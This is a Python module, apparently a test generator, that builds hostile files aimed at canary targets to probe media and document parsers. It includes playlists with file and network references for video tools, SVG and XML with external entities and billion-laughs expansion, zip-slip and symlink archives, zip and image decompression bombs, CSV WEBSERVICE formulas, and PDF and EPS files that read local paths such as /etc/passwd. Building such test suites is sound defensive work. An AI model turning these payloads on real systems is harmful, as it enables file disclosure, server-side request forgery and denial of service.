"""Files that mean harm: real ones cut and bent, playlists, drawings, archives and bombs that point at a canary."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from PIL import Image


@dataclass(frozen=True)
class Bait:
    """What hostile files point at: files that nobody may open, and an address that nobody may call."""

    text: Path
    picture: Path
    near: str  # the picture, as seen from a task's folder
    address: str  # host:port


@dataclass(frozen=True)
class BadFile:
    kind: str
    name: str
    data: bytes


def bad_files(samples: Path, bait: Bait, count: int, seed: int) -> Iterator[BadFile]:
    """Yield so many files, the same for the same seed: made ones, half of all at most, the rest bent from samples."""
    made = [*playlists(bait), *drawings(bait), *archives(bait), *bombs()]
    rng = random.Random(seed)
    whole = [
        (path.name, path.read_bytes())
        for path in sorted(samples.rglob("*"))
        if path.is_file() and path.stat().st_size < 5_000_000
    ]
    rng.shuffle(made)
    yield from made[: count // 2]
    for number in range(count - min(len(made), count // 2)):
        name, data = rng.choice(whole)
        kind, bend = (("cut", cut), ("flipped", flipped), ("spliced", spliced), ("renamed", renamed))[number % 4]
        yield BadFile(kind, name, bend(data, rng, whole))


Whole = list[tuple[str, bytes]]


def cut(data: bytes, rng: random.Random, _: Whole) -> bytes:
    """Return the beginning of a file."""
    return data[: rng.choice((rng.randrange(64, 4096), rng.randrange(len(data))))]


def flipped(data: bytes, rng: random.Random, _: Whole) -> bytes:
    """Return a file with some bits turned, half of the times in its head."""
    bent = bytearray(data)
    end = len(bent) if rng.random() < 0.5 else min(len(bent), 2048)
    for _flip in range(rng.choice((1, 4, 16, 64, 256))):
        bent[rng.randrange(end)] ^= 1 << rng.randrange(8)
    return bytes(bent)


def spliced(data: bytes, rng: random.Random, whole: Whole) -> bytes:
    """Return a file with a piece of another in it, or a piece of its own doubled or gone."""
    start, length = rng.randrange(len(data)), rng.randrange(1, 65_536)
    lender = rng.choice((data, rng.choice(whole)[1], b"", b"\xff" * length, bytes(length)))
    at = rng.randrange(max(1, len(lender)))
    return data[:start] + lender[at : at + length] + data[start + rng.choice((0, length)) :]


def renamed(data: bytes, rng: random.Random, whole: Whole) -> bytes:
    """Return the first bytes of one file before all others of another."""
    head = rng.choice((4, 12, 64, 512))
    return data[:head] + rng.choice(whole)[1][head:]


def playlists(bait: Bait) -> Iterator[BadFile]:
    """Yield lists that tell a player to open something else."""
    targets = [
        str(bait.text), f"file://{bait.text}", str(bait.picture), bait.near, f"http://{bait.address}/x.ts",
        f"concat:{bait.text}|{bait.picture}", f"subfile,,start,0,end,0,,:{bait.text}", f"tcp://{bait.address}",
        f"data:text/plain,{bait.text}", f"crypto+file://{bait.text}", "/etc/passwd", "-i", "original", "%d.png",
    ]  # fmt: skip
    port = bait.address.partition(":")[2]
    for target in targets:
        forms = {
            "ffconcat": f"ffconcat version 1.0\nfile '{target}'\n",
            "m3u8": f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{target}\n#EXT-X-ENDLIST\n",
            "key.m3u8": f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{target}"\n#EXTINF:1,\nx.ts\n#EXT-X-ENDLIST\n',
            "mpd": f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period>'
            f'<AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>{target}</BaseURL>'
            f"</Representation></AdaptationSet></Period></MPD>",
            "sdp": f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nm=video {port} RTP 96\n",
            "smil": f'<smil><body><video src="{target}"/></body></smil>',
        }
        for kind, text in forms.items():
            for name in ("film.mp4", "film.jpg"):
                yield BadFile("playlist", f"{kind}-{name}", text.encode())
        # A list behind the first bytes of a real kind of file.
        for head in (
            b"\x00\x00\x00\x18ftypisom\x00\x00\x00\x00",
            b"RIFF\xff\xff\x00\x00AVI LIST",
            b"ID3\x03\x00\x00\x00\x00\x00\x00",
        ):
            yield BadFile("playlist", "behind.mp4", head + forms["m3u8"].encode())
        yield BadFile("playlist", "reference.mov", _reference_movie(target.encode()))


def _reference_movie(target: bytes) -> bytes:
    def atom(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body) + 8) + name + body

    entry = struct.pack(">I4sI", 0, b"url ", len(target) + 1) + target + b"\0"
    moved = atom(b"moov", atom(b"rmra", atom(b"rmda", atom(b"rdrf", entry))))
    return atom(b"ftyp", b"qt  \x00\x00\x00\x00qt  ") + moved


def drawings(bait: Bait) -> Iterator[BadFile]:
    """Yield SVGs and other XML that refer to something else, or to themselves without end."""
    head = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100">'
    )
    references = [
        str(bait.picture), f"file://{bait.picture}", bait.near, f"http://{bait.address}/x.png", str(bait.text),
        "original", "file:///etc/passwd", f"//{bait.address}/x.png",
    ]  # fmt: skip
    for target in references:
        bodies = [
            f'<image width="100" height="100" href="{target}"/>',
            f'<image width="100" height="100" xlink:href="{target}"/>',
            f'<use xlink:href="{target}#a"/>',
            f'<style>@import url("{target}"); @font-face {{ font-family: x; src: url("{target}") }}</style>',
            f'<rect width="9" height="9" fill="url({target}#a)"/>',
            f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{target}"/></foreignObject>',
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{target}" parse="text"/>',
        ]
        for body in bodies:
            yield BadFile("drawing", "drawing.svg", f"{head}{body}</svg>".encode())
        for declared in (f'<!ENTITY x SYSTEM "{target}">', f'<!ENTITY % x SYSTEM "{target}"> %x;'):
            yield BadFile("drawing", "entity.svg", f"<!DOCTYPE svg [{declared}]>{head}<text>&x;</text></svg>".encode())
        yield BadFile("drawing", "style.svg", f'<?xml-stylesheet href="{target}"?>{head}</svg>'.encode())
    laughs = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    yield BadFile(
        "drawing", "laughs.svg", f'<!DOCTYPE svg [<!ENTITY l0 "ha">{laughs}]>{head}<text>&l9;</text></svg>'.encode()
    )
    yield BadFile(
        "drawing", "giant.svg", head.replace('"100"', '"100000000"').encode() + b'<rect width="9" height="9"/></svg>'
    )
    yield BadFile("drawing", "deep.svg", head.encode() + b"<g>" * 100_000 + b"</g>" * 100_000 + b"</svg>")
    blur = '<filter id="f"><feGaussianBlur stdDeviation="99999"/></filter><rect width="9" height="9" filter="url(#f)"/>'
    yield BadFile("drawing", "blur.svg", f"{head}{blur}</svg>".encode())
    nested = "".join(f'<g id="g{n + 1}">{f"""<use href="#g{n}"/>""" * 10}</g>' for n in range(8))
    yield BadFile("drawing", "uses.svg", f'{head}<g id="g0"><rect width="9" height="9"/></g>{nested}</svg>'.encode())


def archives(bait: Bait) -> Iterator[BadFile]:
    """Yield ZIPs and documents in ZIPs that leave their folder, point elsewhere, or swell."""
    for name in (
        "../../../../tmp/evil",
        "/tmp/evil",
        "..\\evil",
        "a/../../evil",
        "x\x00y",
        "\udce4".encode("utf-8", "surrogateescape").decode("latin-1"),
        "C:evil",
        "a" * 60_000,
    ):
        yield BadFile("archive", "slip.zip", _zip({name: b"evil"}))
    link = zipfile.ZipInfo("link")
    link.external_attr = 0o120777 << 16
    yield BadFile("archive", "link.zip", _zip({link: str(bait.text).encode()}))
    swollen = _zip({"zeros": bytes(200 << 20)})
    yield BadFile("archive", "swollen.zip", swollen)
    yield BadFile("archive", "nested.zip", _zip({f"{n}.zip": swollen for n in range(20)}))
    yield BadFile("archive", "many.zip", _zip({f"{n}": b"" for n in range(70_000)}))
    yield BadFile("archive", "overlapping.zip", _overlapping())
    thumbnail = {"Thumbnails/thumbnail.png": png(30_000, 30_000), "content.xml": b"<x/>"}
    kind = "application/vnd.oasis.opendocument.text"
    yield BadFile("archive", "thumbnail.odt", _document(kind, thumbnail))
    yield BadFile("archive", "swollen.odt", _document(kind, {"Thumbnails/thumbnail.png": bytes(200 << 20)}))
    for target in (f"file://{bait.picture}", f"http://{bait.address}/x.png", str(bait.text)):
        text = (
            '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
            'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text><text:p><draw:frame>'
            f'<draw:image xlink:href="{target}"/></draw:frame></text:p></office:text></office:body>'
            "</office:document-content>"
        )
        yield BadFile("archive", "linked.odt", _document(kind, {"content.xml": text.encode()}))
        relations = (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
            f'Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail" Target="{target}" '
            'TargetMode="External"/></Relationships>'
        )
        parts = {"[Content_Types].xml": b"<Types/>", "_rels/.rels": relations.encode(), "word/document.xml": b"<x/>"}
        yield BadFile("archive", "linked.docx", _zip(parts))
        entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{target}">]><x>&e;</x>'.encode()
        sheet = {
            "[Content_Types].xml": entity,
            "xl/workbook.xml": entity,
            "xl/worksheets/sheet1.xml": entity,
            "xl/sharedStrings.xml": entity,
        }
        yield BadFile("archive", "entity.xlsx", _zip(sheet))
        yield BadFile("archive", "formula.csv", f'=WEBSERVICE("{target}"),=HYPERLINK("{target}")\n'.encode() * 50)
        yield BadFile(
            "archive", "linked.rtf", f'{{\\rtf1 {{\\field{{\\*\\fldinst INCLUDEPICTURE "{target}"}}}}}}'.encode()
        )
        program = f"({target}) (r) file 999 string readstring pop print\n"
        eps = f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n{program}"
        yield BadFile("archive", "reads.eps", eps.encode())
        page = f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents<</F({target})>>>>"
        action = _pdf(f"/OpenAction<</S/URI/URI({target})>>", "/Count 1/Kids[3 0 R]", page)
        yield BadFile("archive", "opens.pdf", action)
        yield BadFile(
            "archive",
            "linked.gltf",
            f'{{"asset":{{"version":"2.0"}},"buffers":[{{"uri":"{target}","byteLength":9}}]}}'.encode(),
        )


def _zip(entries: dict[str, bytes] | dict[zipfile.ZipInfo, bytes]) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in entries.items():
            file.writestr(name, data)
    return written.getvalue()


def _document(kind: str, parts: dict[str, bytes]) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("mimetype", kind, zipfile.ZIP_STORED)
        for name, data in parts.items():
            file.writestr(name, data)
    return written.getvalue()


def _overlapping() -> bytes:
    """Return an archive whose thousand entries are the same ten megabytes."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("a", bytes(10 << 20))
        (only,) = file.filelist
        file.filelist += [only] * 999
    return written.getvalue()


def bombs() -> Iterator[BadFile]:
    """Yield small files that claim, or are, something huge."""
    yield BadFile("bomb", "huge.png", png(30_000, 30_000))
    yield BadFile("bomb", "interlaced.png", png(16_000, 16_000, interlaced=1))
    for side in (65_535, 1_000_000, 0x7FFFFFFF):
        yield BadFile("bomb", "claims.png", png(side, side, rows=2))
        yield BadFile("bomb", "wide.tif", _tiff(side, 1))
        yield BadFile(
            "bomb",
            "claims.psd",
            struct.pack(">4sH6xHIIHH", b"8BPS", 1, 3, side & 0xFFFFFFFF, side & 0xFFFFFFFF, 8, 3) + bytes(64),
        )
        yield BadFile(
            "bomb",
            "claims.bmp",
            struct.pack("<2sIHHIIiiHHIIiiII", b"BM", 60, 0, 0, 54, 40, side, side, 1, 24, 0, 0, 0, 0, 0, 0),
        )
        yield BadFile("bomb", "claims.qoi", struct.pack(">4sIIBB", b"qoif", side, side, 4, 0) + bytes(32))
        yield BadFile(
            "bomb",
            "claims.tga",
            struct.pack("<BBBHHBHHHHBB", 0, 0, 2, 0, 0, 0, 0, 0, side & 0xFFFF, side & 0xFFFF, 24, 0) + bytes(64),
        )
        yield BadFile("bomb", "claims.stl", bytes(80) + struct.pack("<I", side & 0xFFFFFFFF) + bytes(50))
    picture = Image.new("P", (8, 8))
    written = io.BytesIO()
    frames = [Image.new("P", (8, 8), number % 2) for number in range(2000)]
    picture.save(written, "GIF", save_all=True, append_images=frames, duration=10)
    yield BadFile("bomb", "frames.gif", written.getvalue())
    yield BadFile("bomb", "giant.gif", b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + written.getvalue()[10:])
    small, large = (f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 {side} {side}]>>" for side in (9, 99_999_999))
    yield BadFile("bomb", "pages.pdf", _pdf("", f"/Count 1000000/Kids[{'3 0 R ' * 100_000}]", small))
    yield BadFile("bomb", "poster.pdf", _pdf("", "/Count 1/Kids[3 0 R]", large))
    yield BadFile("bomb", "wide.csv", b"," * 3_000_000)
    yield BadFile("bomb", "deep.json", b'{"a":' * 200_000)


def _pdf(catalogue: str, pages: str, page: str) -> bytes:
    return (
        f"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R{catalogue}>>endobj\n2 0 obj<</Type/Pages{pages}>>endobj\n"
        f"3 0 obj{page}endobj\ntrailer<</Root 1 0 R>>\n"
    ).encode()


def png(width: int, height: int, *, rows: int = 0, interlaced: int = 0) -> bytes:
    """Return a one-bit black picture, well packed; with `rows`, the others are missing."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    packer, line = zlib.compressobj(9), bytes((width + 7) // 8 + 1) if width < 100_000 else b"\0"
    packed = b"".join(packer.compress(line) for _ in range((rows or height) + 16 * interlaced))
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, interlaced)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed + packer.flush()) + chunk(b"IEND", b"")


def _tiff(width: int, height: int) -> bytes:
    entries = ((256, width), (257, height), (258, 8), (259, 1), (262, 1), (273, 8), (278, height), (279, width))
    packed = b"".join(struct.pack("<HHII", tag, 4, 1, value & 0xFFFFFFFF) for tag, value in entries)
    return b"II*\x00" + struct.pack("<IH", 8, len(entries)) + packed + bytes(4)
